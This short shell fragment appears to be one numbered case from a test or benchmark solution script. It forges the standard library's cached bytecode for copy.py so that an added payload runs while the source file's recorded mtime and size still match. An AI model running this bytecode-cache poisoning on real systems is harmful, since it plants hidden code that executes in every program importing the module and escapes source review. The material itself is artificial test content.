# 15. Gold's own bytecode file of copy.py forged in place (the folder stays gold's plain
#    __pycache__): compiled from copy.py plus the payload, with the untouched source's mtime
#    and size in its header, so an interpreter that trusts the folder runs it.
py=$(ls /usr/bin/python3.* | grep -E 'python3\.[0-9]+$' | head -n 1)
lib=$($py -c 'import sysconfig; print(sysconfig.get_paths()["stdlib"])')
tag=$($py -c 'import sys; print(sys.implementation.cache_tag)')
$py /solution/forge_pyc.py "$lib" "$lib/__pycache__/copy.$tag.pyc"
